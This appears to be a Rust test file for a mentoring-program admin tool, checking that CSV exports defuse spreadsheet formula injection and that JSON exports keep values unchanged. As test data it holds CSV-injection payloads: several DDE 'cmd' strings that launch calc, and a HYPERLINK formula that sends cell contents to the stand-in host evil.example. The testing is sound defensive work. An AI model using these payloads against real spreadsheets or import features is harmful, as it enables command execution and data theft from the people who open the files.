//! CSV formula injection (issue 11, point 1): names, external ids and tags are what people
//! typed; every CSV we hand out neutralises a cell that a spreadsheet would run as a formula
//! (`'` in front, `core::csv_safe`), and the JSON export keeps every value exact.

use std::collections::HashMap;

use csv::{Reader, ReaderBuilder, StringRecord, Writer};
use mentorops_core::command::quote;
use serde_json::Value;

use crate::both_backends;
use crate::support::TestApp;

/// The first characters OWASP lists: a spreadsheet reads a cell beginning with one of them as
/// a formula. Written out here again on purpose, so the test does not trust the rule it checks.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One person as they are stored (values are trimmed and their spaces collapsed on the way in).
struct Person {
    name: &'static str,
    email: &'static str,
    phone: &'static str,
    role: &'static str,
    external_id: &'static str,
    tags: &'static str,
}

const HOSTILE: [Person; 4] = [
    Person {
        name: "=cmd|' /C calc'!A0",
        email: "cmd@example.org",
        phone: "+14155550701",
        role: "mentee",
        external_id: "=cmd|'/C-calc'!A0",
        tags: "-cmd=1",
    },
    Person {
        name: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
        email: "hyper@example.org",
        phone: "+14155550702",
        role: "mentor",
        external_id: "@SUM(1)",
        tags: "cohort=2026",
    },
    Person {
        name: "+SUM(1+1)*cmd|' /C calc'!A0",
        email: "plus@example.org",
        phone: "+14155550703",
        role: "mentee",
        external_id: "+SUM(1+1)",
        tags: "",
    },
    Person {
        name: "-2+3+cmd|' /C calc'!A0",
        email: "-2+3@example.org",
        phone: "+14155550704",
        role: "mentor",
        external_id: "-2+3",
        tags: "",
    },
];

const HARMLESS: Person = Person {
    name: "Ana Lima",
    email: "ana@example.org",
    phone: "+14155550705",
    role: "mentee",
    external_id: "EMP-9",
    tags: "lang=pt",
};

/// Added with `/user_add`, without an external id: it defaults to the phone.
const TYPED: Person = Person {
    name: "-10+20+cmd|' /C calc'!A0",
    email: "typed@example.org",
    phone: "+14155550706",
    role: "mentor",
    external_id: "+14155550706",
    tags: "",
};

fn begins_like_a_formula(cell: &str) -> bool {
    cell.starts_with(FORMULA_STARTS)
}

/// What a spreadsheet-safe CSV holds for a stored value.
fn neutralised(value: &str) -> String {
    if begins_like_a_formula(value) {
        format!("'{value}")
    } else {
        value.to_string()
    }
}

/// A CSV import file (written with the `csv` crate, so quotes and commas are escaped right) of
/// every person in `people`; the first name starts with a carriage return and the last with
/// a tab, as a spreadsheet may save them.
fn import_file(people: &[&Person]) -> Vec<u8> {
    let mut w = Writer::from_writer(Vec::new());
    w.write_record([
        "name",
        "email",
        "phone",
        "role",
        "program",
        "external_id",
        "tags",
    ])
    .expect("header");
    for (i, p) in people.iter().enumerate() {
        let name = match i {
            0 => format!("\r{}", p.name),
            i if i == people.len() - 1 => format!("\t{}", p.name),
            _ => p.name.to_string(),
        };
        w.write_record([
            name.as_str(),
            p.email,
            p.phone,
            p.role,
            "Spring",
            p.external_id,
            p.tags,
        ])
        .expect("row");
    }
    w.into_inner().expect("bytes")
}

async fn import(app: &TestApp, people: &[&Person]) {
    let r = app
        .admin_with_file(
            "/user_import file:people.csv",
            "people.csv",
            &import_file(people),
        )
        .await;
    assert!(
        r.as_ref().is_ok_and(|r| r
            .text
            .contains(&format!("Imported {} people", people.len()))),
        "{r:?}"
    );
}

/// The hostile people and Ana imported from a CSV file, and one more added with `/user_add`.
async fn hostile_people(app: &TestApp) {
    app.with_program().await;
    let mut file: Vec<&Person> = HOSTILE.iter().collect();
    file.push(&HARMLESS);
    import(app, &file).await;
    app.admin(&format!(
        "/user_add {} {} {} {} program:Spring",
        quote(TYPED.name),
        TYPED.email,
        TYPED.phone,
        TYPED.role
    ))
    .await;
}

/// Every record of a CSV file with a header line; fails on anything that is not valid CSV
/// (a record with another number of cells than the header, a stray quote).
fn records(bytes: &[u8]) -> (StringRecord, Vec<StringRecord>) {
    let mut reader: Reader<&[u8]> = ReaderBuilder::new().from_reader(bytes);
    let header = reader.headers().expect("a header line").clone();
    let rows = reader
        .records()
        .collect::<Result<Vec<_>, _>>()
        .unwrap_or_else(|e| panic!("not valid CSV: {e}\n{}", String::from_utf8_lossy(bytes)));
    (header, rows)
}

/// The cell `column` of a record, by the header's name for it.
fn cell<'a>(header: &StringRecord, row: &'a StringRecord, column: &str) -> &'a str {
    let i = header
        .iter()
        .position(|h| h == column)
        .unwrap_or_else(|| panic!("no column {column} in {header:?}"));
    row.get(i).unwrap_or_default()
}

async fn the_csv_export_puts_a_quote_before_every_cell_that_begins_like_a_formula(app: &TestApp) {
    hostile_people(app).await;
    let export = app.admin("/export format:csv").await;
    let (header, rows) = records(&export.attachments[0].bytes);
    // Found by the phone's digits, whatever is in front of them: any other cell of these rows
    // is under test.
    let digits = |phone: &str| phone.trim_start_matches(['\'', '+']).to_string();
    let by_phone: HashMap<String, &StringRecord> = rows
        .iter()
        .map(|r| (digits(cell(&header, r, "phone")), r))
        .collect();
    let row_of = |p: &Person| {
        *by_phone
            .get(&digits(p.phone))
            .unwrap_or_else(|| panic!("{} is not in the export", p.email))
    };
    for p in HOSTILE.iter().chain([&TYPED]) {
        let row = row_of(p);
        assert_eq!(cell(&header, row, "full_name"), format!("'{}", p.name));
        assert_eq!(
            cell(&header, row, "external_id"),
            format!("'{}", p.external_id)
        );
        assert_eq!(cell(&header, row, "tags"), neutralised(p.tags));
        assert_eq!(cell(&header, row, "email"), neutralised(p.email));
        assert_eq!(cell(&header, row, "role"), p.role);
    }
    assert_eq!(cell(&header, row_of(&HOSTILE[0]), "tags"), "'-cmd=1");
    assert_eq!(
        cell(&header, row_of(&HOSTILE[3]), "email"),
        "'-2+3@example.org"
    );
    // A phone number in E.164 begins with +: a spreadsheet-safe export writes it as text too.
    let ana = row_of(&HARMLESS);
    assert_eq!(cell(&header, ana, "phone"), "'+14155550705");
    assert_eq!(cell(&header, ana, "full_name"), "Ana Lima");
    assert_eq!(cell(&header, ana, "external_id"), "EMP-9");
    assert_eq!(cell(&header, ana, "tags"), "lang=pt");
    // No cell anywhere in the file begins like a formula.
    for row in std::iter::once(&header).chain(&rows) {
        for c in row {
            assert!(
                !begins_like_a_formula(c),
                "{c:?} would run as a formula, in {row:?}"
            );
        }
    }
}

/// The CSV export's cells are the JSON export's values, neutralised and nothing else: a harmless
/// value is unchanged; the JSON export holds every value exactly as it was typed.
async fn the_json_export_keeps_every_value_exact_and_the_csv_differs_only_by_the_quote(
    app: &TestApp,
) {
    hostile_people(app).await;
    let json = app.admin("/export format:json").await;
    let people: Vec<Value> =
        serde_json::from_slice(&json.attachments[0].bytes).expect("a JSON array");
    let by_email: HashMap<&str, &Value> = people
        .iter()
        .map(|p| (p["email"].as_str().unwrap_or_default(), p))
        .collect();
    for p in HOSTILE.iter().chain([&TYPED, &HARMLESS]) {
        let v = by_email
            .get(p.email)
            .unwrap_or_else(|| panic!("{} is not in the export", p.email));
        assert_eq!(v["email"], p.email);
        assert_eq!(v["full_name"], p.name);
        assert_eq!(v["external_id"], p.external_id);
        assert_eq!(v["phone"], p.phone);
        assert_eq!(v["tags"], p.tags);
    }
    let by_id: HashMap<String, &Value> = people.iter().map(|p| (p["id"].to_string(), p)).collect();
    let csv = app.admin("/export format:csv").await;
    let (header, rows) = records(&csv.attachments[0].bytes);
    assert_eq!(rows.len(), people.len(), "one persona each");
    for row in &rows {
        let id = cell(&header, row, "id");
        let v = by_id
            .get(id)
            .unwrap_or_else(|| panic!("#{id} is not in the JSON export"));
        for column in [
            "full_name",
            "email",
            "phone",
            "external_id",
            "status",
            "tags",
        ] {
            let value = v[column].as_str().unwrap_or_default();
            assert_eq!(cell(&header, row, column), neutralised(value), "{column}");
        }
    }
}

async fn the_autopair_preview_csv_neutralises_a_name_and_keeps_quotes_and_commas_in_one_cell(
    app: &TestApp,
) {
    app.with_program().await;
    let mentor = Person {
        name: "Costa, \"Rui\" O'Neil",
        email: "rui@example.org",
        phone: "+14155550707",
        role: "mentor",
        external_id: "EMP-10",
        tags: "",
    };
    let mentee = Person {
        role: "mentee",
        ..HOSTILE[1]
    };
    import(app, &[&mentee, &mentor]).await;
    for who in [mentee.email, mentor.email] {
        app.admin(&format!("/status {who} A")).await;
        app.admin(&format!("/match_status {who} RTBM")).await;
    }
    let preview = app.admin("/autopair Spring").await;
    assert!(preview.text.contains("1 pairs"), "{}", preview.text);
    let (header, rows) = records(&preview.attachments[0].bytes);
    assert_eq!(
        header.iter().collect::<Vec<_>>(),
        ["mentee", "mentee_email", "mentor", "mentor_email", "score"]
    );
    assert_eq!(rows.len(), 1, "{rows:?}");
    let row = &rows[0];
    assert_eq!(cell(&header, row, "mentee"), format!("'{}", mentee.name));
    assert_eq!(cell(&header, row, "mentee_email"), mentee.email);
    assert_eq!(cell(&header, row, "mentor"), mentor.name);
    assert_eq!(cell(&header, row, "mentor_email"), mentor.email);
    assert!(
        cell(&header, row, "score").parse::<u32>().is_ok(),
        "{row:?}"
    );
}

both_backends!(
    the_csv_export_puts_a_quote_before_every_cell_that_begins_like_a_formula,
    the_json_export_keeps_every_value_exact_and_the_csv_differs_only_by_the_quote,
    the_autopair_preview_csv_neutralises_a_name_and_keeps_quotes_and_commas_in_one_cell,
);
